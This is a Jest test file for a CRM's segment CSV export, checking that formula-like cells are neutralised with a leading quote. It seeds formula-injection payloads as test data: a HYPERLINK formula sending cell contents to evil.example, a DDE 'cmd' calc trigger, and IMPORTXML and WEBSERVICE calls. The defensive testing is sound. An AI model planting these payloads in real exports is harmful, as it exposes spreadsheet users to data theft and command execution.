import 'reflect-metadata';
import { UserRole } from '@crm/kernel';
import { type ServiceHandle } from '@crm/kernel/subgraph';
import { signedGet, startServiceUnderTest, testToken, type ServiceUnderTest } from '@crm/testing';
import { parse } from 'csv-parse/sync';
import { loadConfig } from '../config';
import { start } from '../server';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';

/** `GET /exports/segments/:id.csv` and text that spreadsheet programs would run as a formula. */
describe('segment CSV export: cells a spreadsheet would run as formulas', () => {
  let service: ServiceUnderTest<ServiceHandle>;
  let admin: string;
  let ownerId: string;
  const call = (query: string, variables?: Record<string, unknown>) => service.as(admin).call(query, variables);
  const ok = (query: string, variables?: Record<string, unknown>) => service.as(admin).ok(query, variables);
  const exported = (path: string) => signedGet(service.url, path, { token: admin });
  const createAccount = async (input: Record<string, unknown>) => {
    const data = await ok(`mutation($input: CreateAccountInput!) { createAccount(input: $input) { id } }`, {
      input: { market: 'CONSUMER', country: 'IS', ownerId, ...input },
    });
    return data.createAccount.id as string;
  };
  const createContact = async (input: Record<string, unknown>) => {
    const { errors } = await call(`mutation($input: CreateContactInput!) { createContact(input: $input) { id } }`, { input });
    expect(errors).toBeUndefined();
  };

  beforeAll(async () => {
    service = await startServiceUnderTest({
      loadConfig,
      start,
      env: { OPPORTUNITIES_URL: 'http://127.0.0.1:9/graphql', ACTIVITIES_URL: 'http://127.0.0.1:9/graphql' },
    });
    // An owner whose e-mail address starts with a formula character: user data like any other.
    [{ id: ownerId }] = await service.handle.db.query(
      `INSERT INTO accounts.users (email, first_name, last_name, role) VALUES ('+sales@crm.example', 'Sal', 'Es', 'ADMIN') RETURNING id`,
    );
    admin = await testToken({ userId: ownerId, role: UserRole.ADMIN });
  });

  afterAll(async () => {
    await service?.stop();
  });

  it('prefixes every text cell starting with = + - @ tab or carriage return with a quote, and leaves ordinary names, phone numbers and negative amounts as they are', async () => {
    const hyperlink = await createAccount({ name: HYPERLINK, industry: '+SUM(1,2)' });
    await createContact({ accountId: hyperlink, firstName: '@SUM(A1:A9)', lastName: 'Eve', email: '-eve@evil.example', phone: '+354 555 1234' });
    const minus = await createAccount({ name: "-2+3+cmd|' /C calc'!A0" });
    const at = await createAccount({ name: '@IMPORTXML("http://evil.example", "//a")' });
    const tab = await createAccount({ name: '\t=1+1' });
    const carriageReturn = await createAccount({ name: '\r=1+1' });
    const ordinary = await createAccount({ name: 'Ordinary Household', industry: 'Fishing' });
    await createContact({ accountId: ordinary, firstName: 'Olaf', lastName: 'Ordinary', email: 'olaf@example.com', phone: '+354 555 9876' });
    // What the API refuses but the columns can hold: a negative revenue (an amount the export formats) and a formula stored as a phone number.
    await service.handle.db.query(`UPDATE accounts.accounts SET annual_revenue_amount = -1500.50, annual_revenue_currency = 'ISK' WHERE id IN ($1, $2)`, [ordinary, minus]);
    await service.handle.db.query(`INSERT INTO accounts.contacts (account_id, first_name, last_name, phone) VALUES ($1, 'Phil', 'Phone', '=WEBSERVICE("http://evil.example")')`, [minus]);

    const created = await call(`mutation($input: CreateSegmentInput!) { createSegment(input: $input) { id memberCount } }`, {
      input: { name: 'Icelandic households', rules: { all: [{ field: 'COUNTRY', operator: 'EQ', values: ['IS'] }] } },
    });
    expect(created.data.createSegment.memberCount).toBe(6);
    const response = await exported(`/exports/segments/${created.data.createSegment.id}.csv`);
    expect(response.status).toBe(200);
    const text = await response.text();
    // Neutralised first, then quoted as CSV requires: the quotes inside the formula doubled.
    expect(text).toContain(`${hyperlink},"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")",CONSUMER,`);

    const rows = new Map((parse(text, { columns: true }) as Record<string, string>[]).map((row) => [row.account_id, row]));
    expect(rows.size).toBe(6);
    expect(rows.get(hyperlink)).toMatchObject({
      name: `'${HYPERLINK}`,
      industry: "'+SUM(1,2)",
      owner_email: "'+sales@crm.example",
      contact_name: "'@SUM(A1:A9) Eve",
      contact_email: "'-eve@evil.example",
      contact_phone: '+354 555 1234',
    });
    expect(rows.get(minus)).toMatchObject({ name: "'-2+3+cmd|' /C calc'!A0", annual_revenue: '-1500.50', contact_phone: `'=WEBSERVICE("http://evil.example")` });
    expect(rows.get(at)!.name).toBe(`'@IMPORTXML("http://evil.example", "//a")`);
    expect(rows.get(tab)!.name).toBe("'\t=1+1");
    expect(rows.get(carriageReturn)!.name).toBe("'\r=1+1");
    expect(rows.get(ordinary)).toMatchObject({
      name: 'Ordinary Household',
      industry: 'Fishing',
      annual_revenue: '-1500.50',
      annual_revenue_currency: 'ISK',
      contact_name: 'Olaf Ordinary',
      contact_email: 'olaf@example.com',
      contact_phone: '+354 555 9876',
    });
    // Nothing else in the file starts like a formula: only the amounts and the phone numbers the contacts accept may.
    const formulas = [...rows.values()].flatMap((row) =>
      Object.entries(row).filter(
        ([column, cell]) => /^[=+\-@\t\r]/.test(cell) && column !== 'annual_revenue' && !(column === 'contact_phone' && /^\+?[0-9 ()\-/.]+$/.test(cell)),
      ),
    );
    expect(formulas).toEqual([]);
  });
});
